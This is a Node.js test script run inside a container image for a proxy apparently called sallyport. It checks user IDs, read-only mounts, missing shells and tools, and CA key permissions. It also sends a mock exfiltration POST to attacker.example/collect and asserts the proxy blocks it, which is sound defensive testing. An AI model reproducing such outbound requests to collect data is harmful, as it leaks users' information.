// Runs inside the image, for image.test.ts: what is in it and what is not, and a request through its proxy.

const assert = require("node:assert/strict");
const events = require("node:events");
const { existsSync, readdirSync, statSync, writeFileSync } = require("node:fs");
const { request } = require("node:http");

assert.deepEqual([process.getuid(), process.getgid()], [65532, 65532]);
assert.throws(() => writeFileSync("/opt/sallyport/x", ""), { code: /EROFS/ });
assert.throws(() => writeFileSync("/tmp/x", ""));
for (const none of ["/bin/sh", "/usr/bin/env", "/usr/local/bin/npm", "/opt/sallyport/src"]) {
  assert.equal(existsSync(none), false, `${none} is in the image`);
}
const packages = readdirSync("/opt/sallyport/node_modules");
for (const none of ["typescript", "vitest", "oxlint", "node"])
  assert.equal(packages.includes(none), false, none);
assert.equal(statSync("/var/lib/sallyport/certs/ca.key").mode & 0o777, 0o600);

async function main() {
  const anchor = await ask("GET", "http://sallyport.internal/ca.pem");
  assert.equal(anchor.status, 200, anchor.body);
  assert.match(anchor.body, /^-----BEGIN CERTIFICATE-----/);
  const stolen = await ask("POST", "http://attacker.example/collect");
  assert.deepEqual([stolen.status, stolen.headers["sallyport-reason"]], [403, "host-not-allowed"]);
  process.stdout.write("done\n");
}

async function ask(method, url) {
  const options = {
    host: "127.0.0.1",
    port: 3128,
    method,
    path: url,
    headers: { Host: new URL(url).host },
    agent: false,
  };
  const sent = request(options);
  sent.setTimeout(5_000, () => sent.destroy(new Error("no answer in 5 s")));
  sent.end(method === "POST" ? "what must not leave" : "");
  const [answer] = await events.once(sent, "response");
  let body = "";
  for await (const chunk of answer) body += chunk;
  return { status: answer.statusCode, headers: answer.headers, body };
}

void main();
